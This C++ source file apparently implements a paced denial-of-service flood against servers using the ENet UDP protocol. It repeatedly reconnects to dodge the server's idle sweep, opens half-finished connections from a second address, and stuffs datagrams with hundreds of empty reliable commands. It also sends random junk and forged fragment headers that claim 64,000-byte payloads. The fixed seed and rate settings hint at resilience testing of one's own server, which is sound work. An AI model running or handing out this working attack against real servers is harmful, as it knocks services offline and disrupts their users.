#include "StrangerFlood.h"

#include "RawPeer.h"

#include <chrono>
#include <memory>
#include <random>
#include <thread>

namespace {
using Clock = std::chrono::steady_clock;
constexpr double kReconnectSeconds = 1.5; // the server sweeps a silent stranger within 2 s
constexpr int kChannels = 3;
constexpr int kCommandsPerDatagram = 32;
constexpr int kFullDatagramCommands = 220; // zero-length sends filling a 1,400-byte datagram
constexpr std::uint16_t kFarGroup = 31744;
} // namespace

StrangerFlood::StrangerFlood(const Settings& chosen)
    : settings(chosen), thread([this] { run(); }) {}

StrangerFlood::~StrangerFlood() {
    stopping = true;
    thread.join();
}

void StrangerFlood::run() {
    std::mt19937 random(12345);
    const Clock::time_point start = Clock::now();
    const auto elapsed = [&] {
        return std::chrono::duration<double>(Clock::now() - start).count();
    };
    std::unique_ptr<RawPeer> peer;
    double connectedAt = -kReconnectSeconds;
    std::uint16_t descending = 30000;
    std::uint32_t round = 0;
    const EnetForge::Bytes empty;
    EnetForge::Bytes junk(1000);
    const auto send = [&](const EnetForge::Bytes& bytes) {
        peer->send(bytes);
        sent += bytes.size();
        ++datagrams;
    };
    while (!stopping && elapsed() < settings.seconds) {
        if (elapsed() - connectedAt >= kReconnectSeconds) {
            peer = std::make_unique<RawPeer>(settings.address);
            connectedAt = elapsed();
            if (peer->connect(settings.port, true, 0.5)) {
                ++connected;
            }
        }
        // Connects that never finish, from ports of their own on the next address.
        RawPeer halfOpen(settings.address + 1);
        halfOpen.connect(settings.port, false, 0.0);
        sent += 52;
        ++datagrams;
        for (std::uint8_t channel = 0; channel < kChannels; ++channel) {
            EnetForge zeros = peer->datagram();
            for (int i = 0; i < kCommandsPerDatagram; ++i) {
                zeros.reliable(channel, descending--, empty);
            }
            send(zeros.bytes());
        }
        EnetForge full = peer->datagram();
        for (int i = 0; i < kFullDatagramCommands; ++i) {
            full.reliable(static_cast<std::uint8_t>(i % kChannels), descending--, empty);
        }
        send(full.bytes());
        for (std::uint8_t& byte : junk) {
            byte = static_cast<std::uint8_t>(random());
        }
        send(peer->datagram()
                 .unsequenced(1, static_cast<std::uint16_t>(kFarGroup + round), junk)
                 .bytes());
        send(peer->datagram()
                 .fragment(static_cast<std::uint8_t>(round % kChannels),
                           static_cast<std::uint16_t>(1 + round % 7000), 64, round % 63 + 1, 64000,
                           (round % 63 + 1) * 1000, junk)
                 .bytes());
        if (descending < 1000) {
            descending = 30000;
        }
        ++round;
        peer->receive(0.0); // keeps the connection acknowledged, as a live peer would
        // Paced to the rate asked for.
        const double due = static_cast<double>(sent.load()) / settings.bytesPerSecond;
        if (due > elapsed()) {
            std::this_thread::sleep_for(std::chrono::duration<double>(due - elapsed()));
        }
    }
    finished = true;
}
